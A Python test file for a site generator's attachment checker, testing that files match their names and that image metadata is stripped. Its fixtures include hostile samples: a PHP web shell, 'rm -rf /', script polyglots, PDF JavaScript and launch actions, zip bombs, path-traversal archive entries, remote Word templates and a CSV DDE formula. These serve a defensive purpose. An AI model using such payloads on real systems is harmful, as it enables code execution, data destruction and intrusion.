"""What may be attached is known by its content; what is published of it says nothing that was not meant to be said."""

import io
import struct
import sys
from pathlib import Path

import pytest
from attached import (
    NOTE,
    RIGHT,
    chunk,
    docx,
    exif,
    moving,
    noted_gif,
    noted_jpeg,
    noted_png,
    noted_webp,
    office,
    packed_object,
    pdf,
    picture,
    zipped,
)
from building.small_archive import snapshot
from PIL import Image, ImageChops, ImageOps
from processes import finished
from small_site import july, site

from generator import attachments
from generator.attachments import Unfit, examine, for_site
from generator.building import Builder, BuildFailed
from generator.building.builder import record_cache
from generator.pipeline import check_archive

SCRIPT = b"<script>alert(1)</script>"
PAGE = b"<!DOCTYPE html>\n<html><body>" + SCRIPT
DRAWING = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>"
GIF_AND_SCRIPT = b"GIF89a=1;/*" + b"\0" * 20 + b"*/alert(1)"
EXTERNAL = (
    '<Relationships><Relationship Id="r1" Type="http://x/relationships/attachedTemplate" '
    'Target="{}" TargetMode="External"/></Relationships>'
)
MACROS = '<Types><Default ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'

UNFIT: dict[str, tuple[str, bytes, str]] = {
    "page called text": ("a.txt", PAGE, "网页或程序的代码"),
    "page called table": ("a.csv", b"\xef\xbb\xbf \n" + PAGE, "网页或程序的代码"),
    "page in UTF-16": ("a.txt", b"\xff\xfe" + PAGE.decode().encode("utf-16-le"), "网页或程序的代码"),
    "page called picture": ("a.png", PAGE, "网页或程序的代码"),
    "page called JPEG": ("a.jpg", PAGE, "网页或程序的代码"),
    "page called PDF": ("a.pdf", PAGE, "网页或程序的代码"),
    "page called Word": ("a.docx", PAGE, "网页或程序的代码"),
    "page called zip": ("a.zip", PAGE, "网页或程序的代码"),
    "script within a text": ("a.txt", "说明\n".encode() + SCRIPT, "网页或程序的代码"),
    "frame within a table": ("a.csv", b"a,b\n1,<IFRAME src=x>", "网页或程序的代码"),
    "drawing called text": ("a.txt", DRAWING, "网页或程序的代码"),
    "drawing called picture": ("a.png", DRAWING, "网页或程序的代码"),
    "drawing called WebP": ("a.webp", DRAWING, "网页或程序的代码"),
    "XML": ("a.txt", b"<?xml version='1.0'?><a/>", "网页或程序的代码"),
    "shell script": ("a.txt", b"#!/bin/sh\nrm -rf /\n", "网页或程序的代码"),
    "PHP": ("a.txt", b"hello <?php system($_GET[0]);", "网页或程序的代码"),
    "mail with a page": ("a.txt", b"MIME-Version: 1.0\nContent-Type: text/html\n\nx", "网页或程序的代码"),
    "program called picture": ("a.png", b"MZ\x90\0" + b"\0" * 60, "而是程序"),
    "program called text": ("a.txt", b"MZ\x90\0" + b"\0" * 60, "而是程序"),
    "old Word file": ("a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500, "取消密码"),
    "RAR": ("a.zip", b"Rar!\x1a\x07\0", "RAR"),
    "picture of another kind": ("a.jpg", RIGHT["图.png"], "请把文件名的结尾改成 .png"),
    "picture of a telephone": ("a.jpg", b"\0\0\0\x18ftypheic" + b"\0" * 20, "HEIC"),
    "PDF called text": ("a.txt", pdf(), "请把文件名的结尾改成 .pdf"),
    "zip called Word": ("a.docx", zipped({"a.txt": "x"}), "和文件名的结尾"),
    "Word called Excel": ("a.xlsx", docx(), "和文件名的结尾"),
    "empty": ("a.png", b"", "空的"),
    "bytes": ("a.txt", bytes(range(256)), "不是文字"),
    "GIF that is a script": ("a.gif", GIF_AND_SCRIPT, "像素"),
    "GIF and nothing": ("a.gif", b"GIF89a", "损坏"),
    "JPEG cut off": ("a.jpg", picture("JPEG")[:-40], "损坏或不完整"),
    "JPEG without a picture": ("a.jpg", b"\xff\xd8\xff\xfe\0\x04aa\xff\xd9", "损坏"),
    "PNG cut off": ("a.png", picture("PNG")[:-30], "损坏或不完整"),
    "PNG changed": ("a.png", picture("PNG").replace(b"IDAT", b"IDAU"), "损坏"),
    "WebP cut off": ("a.webp", picture("WEBP")[:-10], "损坏或不完整"),
    "GIF cut off": ("a.gif", picture("GIF")[:-10], "损坏或不完整"),
    "huge PNG": (
        "a.png",
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">2I5B", 65000, 65000, 8, 6, 0, 0, 0)) + chunk(b"IEND", b""),
        "65000×65000 像素",
    ),
    "huge JPEG": ("a.jpg", b"\xff\xd8\xff\xc0\0\x0b\x08\xff\xff\xff\xff\x01\x01\x11\0", "65535×65535 像素"),
    "huge GIF": ("a.gif", b"GIF89a\xff\xff\xff\xff\0\0\0;", "65535×65535 像素"),
    "huge frame in a small GIF": (
        "a.gif",
        b"GIF89a\1\0\1\0\0\0\0,\0\0\0\0\xff\xff\xff\xff\0\2\1\0\0;",
        "65535×65535 像素",
    ),
    "huge WebP": (
        "a.webp",
        b"RIFF\x16\0\0\0WEBPVP8X\x0a\0\0\0\0\0\0\0\xff\xff\xff\xff\xff\xff",
        "16777216×16777216 像素",
    ),
    "PDF and page": ("a.pdf", b"%PDF-1.4\n" + PAGE + pdf(), "网页的代码"),
    "PDF after a page": ("a.pdf", PAGE + pdf(), "网页或程序的代码"),
    "PDF with a script": ("a.pdf", pdf(b"8 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n"), "自己运行"),
    "PDF with a script spelt out": ("a.pdf", pdf(b"8 0 obj\n<< /S /J#61v#61Script /JS (x) >>\nendobj\n"), "自己运行"),
    "PDF that starts a program": ("a.pdf", pdf(b"8 0 obj\n<< /OpenAction << /S /Launch >> >>\nendobj\n"), "自己运行"),
    "PDF that sends": ("a.pdf", pdf(b"8 0 obj\n<< /S /SubmitForm /F (http://x) >>\nendobj\n"), "自己运行"),
    "PDF with a packed script": ("a.pdf", pdf(packed_object(b"<< /S /JavaScript /JS (x) >>")), "自己运行"),
    "PDF packed strangely": (
        "a.pdf",
        pdf(b"9 0 obj\n<< /Type /Obj#53tm >>\nstream\nxyz\nendstream\nendobj\n"),
        "很少见",
    ),
    "PDF that is locked": ("a.pdf", pdf(b"4 0 obj\n<< /Encrypt 5 0 R >>\nendobj\n" + packed_object(b"<<>>")), "密码"),
    "PDF cut off": ("a.pdf", pdf()[:-8], "不完整"),
    "PDF of names": ("a.pdf", pdf(b"/" * 6_000_000), "很少见"),
    "PDF bomb": ("a.pdf", pdf(packed_object(bytes(20_000_000))), "很少见"),
    "many PDF bombs": ("a.pdf", pdf(packed_object(bytes(7_000_000)) * 20), "很少见"),
    "PDF of packed objects": ("a.pdf", pdf(b"/ObjStm stream\n" * 100_000), "很少见"),
    "GIF of comments": ("a.gif", b"GIF89a\1\0\1\0\0\0\0" + b"\x21\xfe\x01a\0" * 300_000 + b";", "损坏"),
    "JPEG of comments": ("a.jpg", b"\xff\xd8" + b"\xff\xfe\0\2" * 500_000, "损坏"),
    "JPEG of nothing": ("a.jpg", b"\xff\xd8" + b"\xff" * 5_000_000, "损坏"),
    "PNG of texts": ("a.png", picture("PNG")[:33] + chunk(b"tEXt", b"") * 100_000, "损坏"),
    "WebP of nothing": (
        "a.webp",
        b"RIFF" + struct.pack("<I", 800_004) + b"WEBP" + b"XXXX\0\0\0\0" * 100_000,
        "损坏",
    ),
    "large picture on its side": ("a.jpg", picture("JPEG", (6000, 5000), exif=exif(6)), "转正"),
    "Word with macros": ("a.docx", office("word/document.xml", {"word/vbaProject.bin": b"x"}), "宏"),
    "Excel with macros by type": ("a.xlsx", office("xl/workbook.xml", types=MACROS), "宏"),
    "Excel with old macros": ("a.xlsx", office("xl/workbook.xml", {"xl/macrosheets/sheet1.xml": "x"}), "宏"),
    "Word with a template elsewhere": (
        "a.docx",
        office("word/document.xml", {"word/_rels/settings.xml.rels": EXTERNAL.format("https://evil.example/a.dotm")}),
        "断开链接",
    ),
    "Word with a template of a host": (
        "a.docx",
        office("word/document.xml", {"word/_rels/settings.xml.rels": EXTERNAL.format(r"\\evil\share\a.dotm")}),
        "断开链接",
    ),
    "Word bomb": ("a.docx", office("word/document.xml", {"word/media/a.png": bytes(25_000_000)}), "大得不合理"),
    "zip bomb": ("a.zip", zipped({"a.txt": bytes(25_000_000)}), "大得不合理"),
    "zip in zip": ("a.zip", zipped({"a.zip": zipped({"a": "x"})}), "又有压缩文件"),
    "zip of many": ("a.zip", zipped({f"{number}": "" for number in range(6000)}), "6000 个文件"),
    "zip that leads outside": ("a.zip", zipped({"../../etc/cron.d/x": "x"}), "别的文件夹"),
    "zip that leads outside on Windows": ("a.zip", zipped({"..\\..\\x.txt": "x"}), "别的文件夹"),
    "zip with an absolute path": ("a.zip", zipped({"/etc/passwd": "x"}), "别的文件夹"),
    "zip with a drive": ("a.zip", zipped({"C:\\x.txt": "x"}), "别的文件夹"),
    "zip with a program": ("a.zip", zipped({"方案.pdf.exe": "x"}), "有程序"),
    "zip with a program and a dot": ("a.zip", zipped({"方案.exe. ": "x"}), "有程序"),
    "zip with a macro file": ("a.zip", zipped({"表.xlsm": "x"}), "有程序"),
    "zip after a page": ("a.zip", b"PK\3\4" + PAGE + zipped({"a": "x"}), "夹带"),
    "zip before a page": ("a.zip", zipped({"a": "x"}) + PAGE, "夹带"),
    "zip cut off": ("a.zip", zipped({"a": "x"})[:-5], "损坏"),
}


def linking(folder: Path, name: str, data: bytes, more: str = "") -> Path:
    """An archive with a text that links the file beside it."""
    text = july().replace("missing: [text]\n", "") + f"\n[附件](<{name}>)\n"
    root = site(folder, {"content/2023/07/01.md": text} | ({"mkdocs.yml": f"site_name: 名\n{more}"} if more else {}))
    (root / "content/2023/07" / name).write_bytes(data)
    return root


@pytest.mark.parametrize("name", RIGHT)
def test_right_ones_are_right_and_are_published_in_a_form_that_is_right_too(name: str) -> None:
    assert examine(name, RIGHT[name]) == []
    published = for_site(name, RIGHT[name])
    assert examine(name, published) == []
    assert for_site(name, published) == published


@pytest.mark.parametrize("case", UNFIT)
def test_what_is_not_what_its_name_says_or_harmful_is_refused(case: str) -> None:
    name, data, why = UNFIT[case]
    with pytest.raises(Unfit, match=why):
        examine(name, data)


@pytest.mark.parametrize("case", ["page called picture", "zip bomb", "PDF with a script", "GIF that is a script"])
def test_the_file_is_named_and_nothing_is_built(tmp_path: Path, case: str) -> None:
    name, data, why = UNFIT[case]
    root = linking(tmp_path / "root", name, data)
    (problem,) = check_archive(root)[1]
    assert (problem.path, problem.code, problem.severity) == (f"content/2023/07/{name}", "unfit-attachment", "error")
    assert why in problem.message
    with pytest.raises(BuildFailed):
        Builder(root, root / "site").build()
    assert not (root / "site").exists()


@pytest.mark.parametrize(
    ("name", "data"),
    [("a.jpg", noted_jpeg()), ("a.png", noted_png()), ("a.webp", noted_webp()), ("a.gif", noted_gif())],
    ids=["jpg", "png", "webp", "gif"],
)
def test_notes_are_gone_and_every_pixel_stays(name: str, data: bytes) -> None:
    assert NOTE.encode() in data
    published = for_site(name, data)
    assert NOTE.encode() not in published
    assert b"SECRET" not in published
    with Image.open(io.BytesIO(data)) as before, Image.open(io.BytesIO(published)) as after:
        assert not after.getexif()
        assert ImageChops.difference(before.convert("RGBA"), after.convert("RGBA")).getbbox(alpha_only=False) is None


@pytest.mark.parametrize("turn", range(2, 9))
@pytest.mark.parametrize("form", ["jpg", "png", "webp"])
def test_a_picture_stands_upright_without_its_notes(form: str, turn: int) -> None:
    data = {"jpg": noted_jpeg, "png": noted_png, "webp": noted_webp}[form](turn)
    published = for_site(f"a.{form}", data)
    assert published == for_site(f"a.{form}", data)
    with Image.open(io.BytesIO(data)) as before, Image.open(io.BytesIO(published)) as after:
        wanted = ImageOps.exif_transpose(before).convert("RGB")
        assert not after.getexif()
        assert after.size == wanted.size
        low, high = zip(*ImageChops.difference(wanted, after.convert("RGB")).getextrema(), strict=True)
        assert max(high) <= (0 if form == "png" else 40), (low, high)
    assert NOTE.encode() not in published


@pytest.mark.parametrize("form", ["GIF", "WEBP", "PNG"])
def test_what_moves_still_does(form: str) -> None:
    published = for_site(f"a.{form.lower()}", moving(form))
    with Image.open(io.BytesIO(moving(form))) as before, Image.open(io.BytesIO(published)) as after:
        assert after.n_frames == before.n_frames == 3
        assert after.info.get("loop") == before.info.get("loop")
        for number in range(3):
            after.seek(number)
            before.seek(number)
            after.load()
            before.load()
            assert after.info["duration"] == before.info["duration"]
            assert after.convert("RGB").getpixel((5, 5)) == before.convert("RGB").getpixel((5, 5))


@pytest.mark.parametrize("turn", [1, 6])
def test_colours_for_print_stay(turn: int) -> None:
    data = picture("JPEG", mode="CMYK", exif=exif(turn), icc_profile=b"profile" * 100)
    with Image.open(io.BytesIO(for_site("a.jpg", data))) as published, Image.open(io.BytesIO(data)) as before:
        assert published.mode == "CMYK"
        assert published.info["icc_profile"] == b"profile" * 100
        wanted = ImageOps.exif_transpose(before).convert("RGB")
        low, high = zip(*ImageChops.difference(wanted, published.convert("RGB")).getextrema(), strict=True)
        assert max(high) <= 20, (low, high)


def test_files_in_a_pdf_and_formulas_in_a_table_are_told() -> None:
    assert "带着别的文件" in examine("a.pdf", pdf(b"8 0 obj\n<< /Type /EmbeddedFile >>\nendobj\n"))[0]
    assert "公式" in examine("a.csv", b"a,b\n=cmd|'/c calc'!A0,1\n")[0]
    assert examine("a.csv", "单位,变化\n阳谷局,-3\n莘县局,+5%\n".encode()) == []


def test_a_page_to_open_first_is_no_harm() -> None:
    assert examine("a.pdf", pdf(b"8 0 obj\n<< /OpenAction [3 0 R /Fit] >>\nendobj\n")) == []
    assert examine("a.pdf", pdf(packed_object(b"<< /Type /Font >>"))) == []


@pytest.mark.parametrize(
    "name", ["a.html.png", "a.php.jpg", "a.svg.webp", "方案.exe.pdf", "a.asp .png", "x.JS.txt"], ids=ascii
)
def test_a_name_that_a_server_may_run_is_refused(tmp_path: Path, name: str) -> None:
    told = check_archive(linking(tmp_path, name, RIGHT["图.png"]))[1]
    assert [(one.code, "改名" in one.message) for one in told] == [("unfit-attachment", True)]


def test_sizes_are_limited_in_the_settings(tmp_path: Path) -> None:
    big = picture("PNG") + bytes(1536 * 1024)
    (problem,) = check_archive(linking(tmp_path / "a", "a.png", big, "extra: {picture_mb: 1}\n"))[1]
    assert "超过 1 MB" in problem.message
    assert "picture_mb" in problem.message
    assert check_archive(linking(tmp_path / "b", "a.png", big))[1] == []
    (problem,) = check_archive(linking(tmp_path / "c", "a.png", big, "extra: {document_mb: 100000}\n"))[1]
    assert (problem.path, problem.field) == ("mkdocs.yml", "extra.document_mb")


def test_a_file_of_many_gigabytes_is_not_read(tmp_path: Path) -> None:
    root = linking(tmp_path, "a.pdf", b"%PDF-")
    with (root / "content/2023/07/a.pdf").open("r+b") as file:
        file.truncate(2**40)
    (problem,) = check_archive(root, record_cache(root))[1]
    assert "超过 50 MB" in problem.message
    with pytest.raises(BuildFailed, match="超过 50 MB"):
        Builder(root, root / "site").build()


def test_both_ways_to_build_publish_the_same_bytes(tmp_path: Path) -> None:
    root = site(tmp_path / "root", {})
    text = july().replace("missing: [text]\n", "") + "".join(f"\n![图](<{name}>)\n" for name in RIGHT)
    (root / "content/2023/07/01.md").write_text(text, "utf-8")
    for name, data in RIGHT.items():
        (root / "content/2023/07" / name).write_bytes(data)
    (root / "content/2023/07/图.png").write_bytes(noted_png(6))
    (root / "mkdocs.yml").write_text(
        "site_name: 名称\ndocs_dir: content\nsite_dir: site\nplugins: [bulletin]\n", "utf-8"
    )
    builder = Builder(root, tmp_path / "site")
    builder.build()
    first = snapshot(tmp_path / "site")
    for name in RIGHT:
        assert first[f"2023/07/{name}"] == for_site(name, (root / "content/2023/07" / name).read_bytes())
    run = finished([sys.executable, "-m", "mkdocs", "build", "--clean", "--site-dir", str(tmp_path / "slow")], cwd=root)
    assert run.returncode == 0, run.stdout + run.stderr
    slow = snapshot(tmp_path / "slow")
    assert {name: slow[f"2023/07/{name}"] == first[f"2023/07/{name}"] for name in RIGHT} == dict.fromkeys(RIGHT, True)
    (root / "content/2023/07/图.png").write_bytes(noted_png(3))
    assert builder.build().made >= 1
    again = snapshot(tmp_path / "site")
    builder.build(clean=True)
    assert snapshot(tmp_path / "site") == again
    assert again["2023/07/图.png"] == for_site("图.png", noted_png(3)) != first["2023/07/图.png"]


def test_what_has_been_examined_is_not_looked_at_again(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from generator.loading import attachment_files

    root = linking(tmp_path / "root", "a.png", noted_png(6))
    looked: list[str] = []

    def noted(path: str, data: bytes) -> list[str]:
        looked.append(path)
        return attachments.examine(path, data)

    monkeypatch.setattr(attachment_files, "examine", noted)
    for _ in range(3):
        kept = record_cache(root)
        assert check_archive(root, kept)[1] == []
        kept.save()
    Builder(root, root / "site").build()
    Builder(root, root / "site").build()
    assert len(looked) == 1
    (root / "content/2023/07/a.png").write_bytes(UNFIT["PNG cut off"][1])
    for _ in range(2):
        kept = record_cache(root)
        assert [one.code for one in check_archive(root, kept)[1]] == ["unfit-attachment"]
        kept.save()
    assert len(looked) == 2


def test_a_file_that_changes_under_the_build_is_not_published(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """What is published is what has been examined."""
    from generator.loading import attachment_files

    root = linking(tmp_path / "root", "a.txt", "说明".encode())
    read_below = attachment_files.read_below

    def exchanged(root: Path, path: str) -> bytes:
        (root / path).write_bytes(PAGE)
        return read_below(root, path)

    monkeypatch.setattr(attachment_files, "read_below", exchanged)
    with pytest.raises(BuildFailed, match="正在改动"):
        Builder(root, root / "site").build()
    assert not (root / "site").exists()
